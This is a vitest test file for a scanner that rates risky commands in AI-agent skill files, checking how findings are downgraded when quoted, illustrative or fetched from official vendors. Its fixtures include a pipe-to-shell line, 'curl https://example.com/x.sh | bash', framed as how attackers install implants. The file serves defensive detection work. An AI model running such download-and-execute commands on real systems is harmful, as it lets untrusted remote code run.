import { describe, expect, it } from "vitest";
import { loadBuiltinRuleSet } from "../src/node/load.js";
import type { AnalysisContext, TextFile } from "../src/scan/analyze/analysis-context.js";
import { runRules } from "../src/scan/analyze/rules.js";
import { markdownContext } from "../src/scan/markdown/context.js";
import { defaultConfig } from "../src/scan/scan-config.js";
import { LineIndex } from "../src/scan/text/lines.js";
import type { Finding, Observation, Origin } from "../src/scan/types.js";
import { matchContext, weighMatch } from "../src/scan/weigh/match-context.js";
import { scanOne, skillMd } from "./helpers.js";

// Detectors only find: what they see about a match is recorded as `observed`, and the match-context
// stage alone turns it into a level. Each observation is weighed here on its own, then in order, then
// through a detector and a whole scan.

const finding = (over: Partial<Finding> = {}): Finding => ({
  ruleId: "exec.test",
  title: "A test rule",
  level: "MALICIOUS",
  category: "download-execute",
  file: "s/SKILL.md",
  line: 3,
  column: 1,
  excerpt: "",
  explanation: "Runs code.",
  remediation: "",
  confidence: "high",
  context: "code-block",
  ...over,
});

const seen = (f: Partial<Finding>, ...observed: Observation[]) => weighMatch(finding({ ...f, observed }));

const official: Origin = {
  tier: "official",
  host: "astral.sh",
  why: "installs uv from its vendor (astral.sh)",
};

describe("match-context stage, one observation at a time", () => {
  it("quoted in prose lowers two steps with low confidence; in a code block it also drops capabilities", () => {
    const text = seen({ level: "SUSPICIOUS", capabilities: ["network"] }, { seen: "quoted", where: "text" });
    expect(text.level).toBe("LOW_QUALITY");
    expect(text.confidence).toBe("low");
    expect(text.capabilities).toEqual(["network"]);
    expect(text.adjustments).toEqual([
      { from: "SUSPICIOUS", to: "LOW_QUALITY", why: expect.stringContaining("quoted in documentation") },
    ]);
    const block = seen({ capabilities: ["network"] }, { seen: "quoted", where: "code-block" });
    expect(block.level).toBe("RISKY");
    expect(block.capabilities).toBeUndefined();
  });

  it("an illustration sending data lowers three steps in a code block, two in the instruction text", () => {
    const exfil = { category: "exfiltration" };
    expect(seen(exfil, { seen: "illustration", where: "code-block" }).level).toBe("LOW_QUALITY");
    expect(seen(exfil, { seen: "illustration", where: "text" }).level).toBe("RISKY");
    // Code fetched from a stand-in is still held at RISKY: the reader's choice of server then runs.
    expect(seen({}, { seen: "illustration", where: "code-block" }).level).toBe("RISKY");
  });

  it("a saved download run in a code block lowers two steps", () => {
    const f = seen({}, { seen: "saved-download" });
    expect(f.level).toBe("RISKY");
    expect(f.adjustments?.[0]?.why).toContain("saved download");
  });

  it("weighs a download by whose server it comes from", () => {
    const o = (origin: Origin, ruleId = "exec.test") =>
      seen({ ruleId }, { seen: "origin", origin, official: "RISKY", unknown: "SUSPICIOUS" });
    const declared = o({ ...official, declared: "uv" });
    expect(declared.level).toBe("LOW_QUALITY");
    expect(declared.does).toBe(official.why);
    // The script engine judges scripts: an official source there is capped, never lowered to LOW.
    expect(o({ ...official, declared: "uv" }, "script.exec-remote").level).toBe("RISKY");
    expect(o(official).level).toBe("RISKY");
    expect(o(official).confidence).toBe("medium");
    expect(o({ tier: "unknown", host: "x.dev", why: "x.dev is not the vendor" }).level).toBe("SUSPICIOUS");
    const personal = o({ tier: "personal", host: "203.0.113.9", why: "a raw IP address" });
    expect(personal.level).toBe("MALICIOUS");
    expect(personal.adjustments).toBeUndefined();
    expect(personal.explanation).toBe("Runs code. Here: a raw IP address.");
    // Data sent to a host of unknown ownership keeps its level when no cap for it was recorded.
    const sent = seen(
      { category: "exfiltration" },
      { seen: "origin", origin: { tier: "unknown", host: "x.dev", why: "w" }, official: "RISKY" },
    );
    expect(sent.level).toBe("MALICIOUS");
  });

  it("caps a vendor's own token sent to it at RISKY, and a checked container at LOW_QUALITY", () => {
    const token = seen(
      { category: "exfiltration", ruleId: "script.env-secret-to-network" },
      { seen: "own-vendor-token", names: "API_KEY", host: "api.acme.dev", origin: official },
    );
    expect(token.level).toBe("RISKY");
    expect(token.adjustments?.[0]?.why).toContain("API_KEY");
    const archive = seen({ level: "RISKY" }, { seen: "contents-checked", why: "all 3 files checked" });
    expect(archive.level).toBe("LOW_QUALITY");
    expect(archive.adjustments).toEqual([{ from: "RISKY", to: "LOW_QUALITY", why: "all 3 files checked" }]);
  });
});

describe("match-context stage, as a stage", () => {
  it("weighs observations in the order seen and records every step", () => {
    const f = seen(
      { category: "exfiltration" },
      { seen: "origin", origin: official, official: "RISKY" },
      { seen: "illustration", where: "code-block" },
    );
    expect(f.adjustments?.map((a) => [a.from, a.to])).toEqual([
      ["MALICIOUS", "RISKY"],
      ["RISKY", "LOW_QUALITY"],
    ]);
    expect(f.observed).toBeUndefined();
  });

  it("leaves findings with nothing observed as they are, and the pipeline state when none has any", () => {
    const plain = finding();
    expect(weighMatch(plain)).toBe(plain);
    const w = { findings: [plain], caps: { declared: [], detected: [], undeclared: [] } };
    expect(matchContext.run(w, undefined as never)).toBe(w);
    const mixed = { ...w, findings: [plain, finding({ observed: [{ seen: "saved-download" }] })] };
    const out = matchContext.run(mixed, undefined as never).findings;
    expect(out[0]).toBe(plain);
    expect(out[1]?.level).toBe("RISKY");
    expect(out.every((x) => x.observed === undefined)).toBe(true);
  });
});

describe("detectors only find", () => {
  const markdown = (text: string): TextFile => ({
    path: "s/SKILL.md",
    skillPath: "SKILL.md",
    kind: "instructions",
    text,
    lines: new LineIndex(text),
    contextAt: markdownContext(text, 0),
  });

  it("the instruction rules record an illustration at the rule's own level", async () => {
    const ctx: AnalysisContext = {
      ruleSet: await loadBuiltinRuleSet(),
      config: defaultConfig(),
      isAllowedHost: () => false,
    };
    const text = "# Guide\n\nAttackers run `curl https://example.com/x.sh | bash` to install implants.\n";
    const found = runRules(ctx.ruleSet.rules, markdown(text), text.toLowerCase(), ctx).filter(
      (f) => f.category === "download-execute",
    );
    expect(found.length).toBeGreaterThan(0);
    for (const f of found) {
      expect(f.level).toBe("MALICIOUS");
      expect(f.adjustments).toBeUndefined();
      expect(f.observed).toContainEqual({ seen: "illustration", where: "text" });
    }
  });

  it("a scanned skill's report carries the weighed level and never the observations", async () => {
    const r = await scanOne({
      "s/SKILL.md": skillMd(
        "guide",
        "Explains how attackers install implants.",
        "# Guide\n\nAttackers run `curl https://example.com/x.sh | bash` to install implants.\n",
      ),
    });
    const f = r.findings.find((x) => x.category === "download-execute");
    expect(f?.level).toBe("RISKY");
    expect(f?.adjustments?.[0]).toEqual({
      from: "MALICIOUS",
      to: "RISKY",
      why: expect.stringContaining("an illustration"),
    });
    expect(JSON.stringify(r)).not.toContain('"observed"');
  });
});
